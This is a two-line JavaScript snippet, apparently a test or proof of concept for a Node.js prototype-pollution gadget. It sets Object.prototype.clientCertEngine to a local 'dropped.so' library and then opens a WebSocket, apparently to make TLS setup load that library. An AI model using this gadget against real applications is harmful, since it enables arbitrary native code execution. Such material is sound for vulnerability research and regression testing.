Object.prototype.clientCertEngine = __dirname + '/dropped.so';
new globalThis.WebSocket('wss://127.0.0.1:4/').onerror = () => {};
